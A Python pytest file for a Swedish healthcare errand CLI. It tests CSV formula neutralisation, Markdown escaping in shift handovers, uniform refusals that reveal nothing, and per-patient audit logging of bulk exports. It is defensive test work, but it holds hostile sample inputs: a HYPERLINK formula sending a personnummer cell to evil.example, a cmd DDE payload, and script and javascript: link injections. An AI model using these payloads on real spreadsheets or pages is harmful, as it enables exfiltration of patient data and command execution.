"""Issue 28, third round of trust, through main(): exports that cannot act (a remark's formula in
`audit --csv`, a remark's and a note's Markdown in `handover`), no oracle in a reference (every
command that takes one answers the same for "does not exist" and "may not see", and logs it),
and a bulk read of replies (`outbound export`) logged per errand with its patient."""

from __future__ import annotations

import csv
import io
import json
import sqlite3

import markdown_it
import pytest

from tests.conftest import STAFF, errand_line, jsonl, run_cli

FORMULA = '=HYPERLINK("http://evil.example/?"&G2,"Visa")'
PNR1, PNR2 = "20150315-1233", "20180101-0016"


@pytest.fixture
def db(tmp_path):
    """1177-000001 (a prescription) held by doc1; 1177-000002 (a certificate) held by doc2."""
    path = tmp_path / "trust.db"
    assert run_cli("staff", "import", "-", db=path, stdin=jsonl(*STAFF)).returncode == 0
    errands = jsonl(
        errand_line("1177-000001", received_at="2026-11-20T09:00:00+01:00"),
        errand_line(
            "1177-000002",
            type="begar_intyg",
            subject="Intyg",
            patient={"name": "Hugo Karlsson", "personnummer": PNR2},
        ),
    )
    assert run_cli("import", "-", db=path, stdin=errands).returncode == 0
    for ref, user in (("1177-000001", "doc1"), ("1177-000002", "doc2")):
        assert run_cli("--as", "rec1", "assign", ref, user, db=path).returncode == 0
    return path


def cli(db, user, *args):
    return run_cli("--as", user, *args, db=db)


def audit_rows(db, where: str = "1", args: tuple = ()) -> list[tuple]:
    with sqlite3.connect(db) as conn:
        return conn.execute(
            f"SELECT actor, action, ref, personnummer, outcome, detail FROM audit WHERE {where} ORDER BY id",
            args,
        ).fetchall()


# -- 3. exports that cannot act -------------------------------------------------------------------


def test_a_remarks_formula_comes_out_of_audit_csv_as_text(db):
    """The issue's report: a handover remark `=HYPERLINK(…&G2…)` on a row whose column G holds the
    personnummer came out of `audit --csv` as a live formula."""
    assert cli(db, "rec1", "handover", "--remark", "1177-000001", FORMULA).returncode == 0
    r = cli(db, "adm", "audit", "--csv")
    assert r.returncode == 0, r.stderr
    rows = list(csv.reader(io.StringIO(r.stdout.decode())))
    assert rows[0][6] == "personnummer"  # column G
    remark = next(row for row in rows if row[4] == "remark")
    assert remark[6] == PNR1 and remark[8] == "'" + FORMULA
    for row in rows[1:]:
        for value in row:
            assert value[:1] not in ("=", "+", "@", "\t", "\r"), row
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit(), row


def test_stats_and_deviation_csvs_keep_numbers_and_neutralise_text(db):
    """The other CSVs write through the same rule: the figures stay figures, and what a person
    wrote (a dismissal's reason, a MedControl number) cannot run."""
    r = cli(db, "rec1", "stats", "--csv", "--from", "2026-11-01", "--to", "2026-11-30")
    assert r.returncode == 0, r.stderr
    rows = list(csv.reader(io.StringIO(r.stdout.decode())))
    assert rows[-1][2] == "total" and rows[-1][4] == "2"
    assert cli(db, "adm", "deviations", "--dismiss", "1", "--reason", "=cmd|' /C calc'!A0").returncode == 0
    r = cli(db, "rec1", "deviations", "--csv")
    assert r.returncode == 0, r.stderr
    (header, row) = list(csv.reader(io.StringIO(r.stdout.decode())))
    assert dict(zip(header, row, strict=True))["orsak"] == "'=cmd|' /C calc'!A0"
    r = cli(db, "rec1", "stats", "--deviations", "--csv")
    assert list(csv.reader(io.StringIO(r.stdout.decode())))[1][:2] == ["1177-000001", "fornya_recept"]


def _html(markdown: str) -> str:
    return markdown_it.MarkdownIt("gfm-like").render(markdown)


def test_a_remark_and_a_note_stay_text_in_the_handover(db):
    """A remark (and the note to the next shift) with blank lines, `## …`, `<script>`, a link, a
    list, a quote, code and a table's pipes: the handover's Markdown keeps them as text."""
    remark = (
        "Ring mamma\n\n## Viktigt\n<script>alert(1)</script>\n[klicka](javascript:alert(1)) "
        "http://evil.example/x\n- punkt\n> citat\n`kod` | a | b |"
    )
    note = "Lugnt pass\n---\n\n## Rubrik\n- punkt\n1. ett\n<b>fet</b> ```"
    assert cli(db, "rec1", "handover", "--remark", "1177-000001", remark).returncode == 0
    assert cli(db, "rec1", "handover", "--note", note).returncode == 0
    r = cli(db, "rec2", "handover")
    assert r.returncode == 0, r.stderr
    html = _html(r.stdout.decode())
    headings = [line for line in html.splitlines() if line.startswith("<h")]
    assert not any(word in h for h in headings for word in ("Viktigt", "Rubrik", "Lugnt", "Ring"))
    for tag in ("<script", "<a ", "<code", "<pre", "<b>", "<hr"):
        assert tag not in html, tag
    quote = html.split("<blockquote>", 1)[1].split("</blockquote>", 1)[0]
    for tag in ("<ul", "<ol", "<h"):
        assert tag not in quote, tag
    # Each remark stays in its item: one line, and its words as written.
    items = [line for line in html.splitlines() if "Ring mamma" in line]
    assert items and all(line.startswith("<li>") and line.endswith("</li>") for line in items)
    assert "## Viktigt &lt;script&gt;alert(1)&lt;/script&gt; [klicka](javascript:alert(1))" in items[0]


# -- 6. no oracle ---------------------------------------------------------------------------------

HIDDEN, MISSING = "1177-000002", "1177-999999"  # doc2's errand; none at all


def _commands(ref: str) -> list[tuple[str, tuple[str, ...]]]:
    """(the action its refusal is logged as, the command line)."""
    return [
        ("view", ("show", ref)),
        ("view", ("show", ref, "--json")),
        ("reply", ("reply", ref, "--text", "Hej")),
        ("reply", ("reply", ref, "--template", "Recept klart")),
        ("partial_reply", ("partial-reply", ref, "--text", "Vi tittar på det")),
        ("close", ("close", ref, "--reason", "Dubblett")),
        ("note", ("note", ref, "--text", "Ringt")),
        ("assign", ("assign", ref, "doc1")),
        ("reassign", ("assign", "--reassign", ref, "doc1")),
        ("urgent", ("urgent", ref)),
        ("remind", ("remind", ref)),
        ("remark", ("handover", "--remark", ref, "Ring efter 14")),
    ]


@pytest.mark.parametrize("user", ["doc1", "rec1", "adm"])
def test_no_reference_tells_whether_it_exists_or_whose_it_is(db, user):
    """Every command that takes a reference answers a person the same for an errand they may not
    see as for one that does not exist — one line, exit 1 — and logs both alike (the action, the
    reference as typed), the patient not named."""
    add = ("template", "add", "Recept klart", "--text", "Klart", "--type", "fornya_recept")
    assert cli(db, "adm", *add).returncode == 0
    for (action, hidden), (_, missing) in zip(_commands(HIDDEN), _commands(MISSING), strict=True):
        before = len(audit_rows(db))
        if user == "rec1":
            # A receiver sees every errand: only a missing one is refused, and so.
            r = cli(db, user, *missing)
            said = f"bcc-tui: ärendet {MISSING} finns inte eller får inte visas\n"
            assert (r.returncode, r.stderr.decode()) == (1, said), missing
            (row,) = audit_rows(db)[before:]
            assert row[:5] == (user, action, MISSING, None, "refused")
            continue
        a, b = cli(db, user, *hidden), cli(db, user, *missing)
        said = a.stderr.decode().replace(HIDDEN, "REF")
        assert (a.returncode, a.stdout) == (b.returncode, b.stdout) == (1, b""), hidden
        assert said == b.stderr.decode().replace(MISSING, "REF"), hidden
        assert said.count("\n") == 1 and said.startswith("bcc-tui: "), said
        new = audit_rows(db)[before:]
        assert [r[:5] for r in new] == [
            (user, action, HIDDEN, None, "refused"),
            (user, action, MISSING, None, "refused"),
        ], hidden
        assert new[0][5].replace(HIDDEN, "REF") == new[1][5].replace(MISSING, "REF")


def test_reply_with_a_template_names_no_type_it_may_not_see(db):
    """The issue's oracle: `reply REF --template NAME` told anyone an errand's type ('mallen … är
    för Förnya recept, inte …') and whether the reference existed, and wrote no audit row."""
    add = ("template", "add", "Recept klart", "--text", "Receptet är förnyat.", "--type", "fornya_recept")
    assert cli(db, "adm", *add).returncode == 0
    hidden = cli(db, "doc1", "reply", HIDDEN, "--template", "Recept klart")
    missing = cli(db, "doc1", "reply", MISSING, "--template", "Recept klart")
    assert hidden.returncode == missing.returncode == 1
    assert hidden.stderr.decode() == f"bcc-tui: ärendet {HIDDEN} finns inte eller får inte visas\n"
    assert missing.stderr.decode() == f"bcc-tui: ärendet {MISSING} finns inte eller får inte visas\n"
    assert "intyg" not in hidden.stderr.decode().lower()
    rows = audit_rows(db, "outcome = 'refused'")
    assert [r[:5] for r in rows] == [
        ("doc1", "reply", HIDDEN, None, "refused"),
        ("doc1", "reply", MISSING, None, "refused"),
    ]
    # On an errand the person may see, the template's own refusal says what is wrong — and is logged.
    assert cli(db, "rec1", "assign", "--reassign", HIDDEN, "doc1").returncode == 0
    r = cli(db, "doc1", "reply", HIDDEN, "--template", "Recept klart")
    assert r.returncode == 1 and "är för Förnya recept, inte Begär intyg" in r.stderr.decode()
    assert audit_rows(db, "outcome = 'refused'")[-1][:5] == ("doc1", "reply", HIDDEN, PNR2, "refused")
    r = cli(db, "doc1", "reply", "1177-000001", "--template", "Recept klart")
    assert r.returncode == 0, r.stderr


def test_who_may_not_act_at_all_is_told_so_for_every_reference(db):
    """A refusal that does not depend on the errand (the role) is asked first: it reads the same
    for a reference that exists and one that does not."""
    for user, args in (
        ("doc1", ("assign", "{}", "doc2")),
        ("doc1", ("urgent", "{}")),
        ("doc1", ("handover", "--remark", "{}", "x")),
        ("adm", ("show", "{}")),
        ("adm", ("note", "{}", "--text", "x")),
        ("system", ("reply", "{}", "--text", "x")),
    ):
        said = []
        for ref in ("1177-000001", MISSING):
            argv = tuple(a.format(ref) for a in args)
            r = run_cli(*argv, db=db) if user == "system" else cli(db, user, *argv)
            assert r.returncode == 1
            said.append(r.stderr.decode().replace(ref, "REF"))
        assert said[0] == said[1] and "finns inte" not in said[0], (user, args, said)


def test_a_refused_typed_reference_is_kept_neutralised(db):
    """`=cmd|…` typed as a reference was stored as typed when it was refused."""
    typed = "=cmd|' /C calc'!A0"
    r = cli(db, "rec1", "show", typed)
    assert r.returncode == 1
    assert r.stderr.decode() == f"bcc-tui: ärendet '{typed} finns inte eller får inte visas\n"
    (row,) = audit_rows(db, "outcome = 'refused'")
    assert row[:5] == ("rec1", "view", "'" + typed, None, "refused")
    assert row[5] == f"ärendet '{typed} finns inte eller får inte visas"
    with sqlite3.connect(db) as conn:
        stored = [v for r in conn.execute("SELECT * FROM audit") for v in r if isinstance(v, str)]
    assert not any(v.startswith(("=", "@", "+")) for v in stored)
    assert not any(";=" in v or "; =" in v for v in stored)
    # A long one is cut: the log keeps what was tried, not whatever someone pastes.
    assert cli(db, "rec1", "note", "@" + "x" * 5000, "--text", "hej").returncode == 1
    assert audit_rows(db, "outcome = 'refused'")[-1][2] == "'@" + "x" * 39 + "…"


# -- 7. bulk reads are read rows ------------------------------------------------------------------


def test_outbound_export_logs_each_errand_read_with_its_patient(db, tmp_path):
    """An administrator's `outbound export` read 130 replies under one audit row with no patient."""
    assert cli(db, "doc1", "partial-reply", "1177-000001", "--text", "Vi tittar på det").returncode == 0
    assert cli(db, "doc1", "reply", "1177-000001", "--text", "Receptet är förnyat").returncode == 0
    assert cli(db, "doc2", "reply", "1177-000002", "--text", "Intyget är skickat").returncode == 0
    out = tmp_path / "out.jsonl"
    r = cli(db, "adm", "outbound", "export", str(out))
    assert r.returncode == 0 and "3 svar exporterade" in r.stdout.decode()
    ids = [json.loads(line)["id"] for line in out.read_text().splitlines()]
    rows = audit_rows(db, "action = 'export'")
    summary, *read = rows
    assert summary[:5] == ("adm", "export", None, None, "ok") and summary[5] == "3 svar till out.jsonl"
    assert [r[:5] for r in read] == [
        ("adm", "export", "1177-000001", PNR1, "ok"),
        ("adm", "export", "1177-000002", PNR2, "ok"),
    ]
    assert [json.loads(r[5]) for r in read] == [
        {"file": "out.jsonl", "replies": ids[:2]},
        {"file": "out.jsonl", "replies": ids[2:]},
    ]
    assert cli(db, "adm", "check").returncode == 0
    # The delivery job (the system account) is logged the same way, as "system".
    complaint = jsonl(errand_line("1177-000003", type="synpunkter_klagomal"))  # a partial reply at once
    assert run_cli("import", "-", db=db, stdin=complaint).returncode == 0
    assert run_cli("outbound", "export", str(tmp_path / "job.jsonl"), db=db).returncode == 0
    assert audit_rows(db, "action = 'export'")[-1][:5] == ("system", "export", "1177-000003", PNR1, "ok")


def test_an_export_of_a_thousand_replies_writes_a_thousand_read_rows(tmp_path):
    """One row per errand in the export's own transaction, on a queue of 1,000 (the complaints'
    automatic partial replies); docs/audit.md has the time on 1,000 and 10,000."""
    path = tmp_path / "many.db"
    assert run_cli("staff", "import", "-", db=path, stdin=jsonl(*STAFF)).returncode == 0
    many = jsonl(*(errand_line(f"1177-{i:06d}", type="synpunkter_klagomal") for i in range(1000)))
    assert run_cli("import", "-", db=path, stdin=many).returncode == 0
    r = cli(path, "adm", "outbound", "export", str(tmp_path / "out.jsonl"))
    assert r.returncode == 0 and "1000 svar exporterade" in r.stdout.decode()
    read = audit_rows(path, "action = 'export' AND ref IS NOT NULL")
    assert len(read) == 1000 and {r[3] for r in read} == {PNR1}
    assert len({r[2] for r in read}) == 1000
